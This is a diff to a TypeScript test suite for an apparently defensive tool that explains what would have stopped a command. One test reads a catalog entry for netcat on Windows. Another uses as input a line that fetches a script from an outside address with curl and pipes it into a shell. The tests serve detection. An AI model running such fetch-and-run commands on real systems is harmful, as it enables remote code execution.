@@ -31,6 +31,12 @@ const explained = async (line: string, ...more: readonly string[]) => {
 };
 
 describe("what would have stopped it", () => {
+  it("says of nothing that Windows does not bring that people need it every day", async () => {
+    const { out } = await whatran(["catalog", "show", "windows/nc"]);
+    expect(out.replace(/\s+/g, " ")).toContain("apart; where nobody needs the program, it can go");
+    expect(out).not.toContain("every day");
+  });
+
   it("names the file that ran where a program goes by several names", async () => {
     const told = await explained('bash -c "curl -s http://198.51.100.7/x | sh"', "--platform", "linux");
     const starts = told.filter(({ target }) => target === "auditd").map(({ text }) => text);
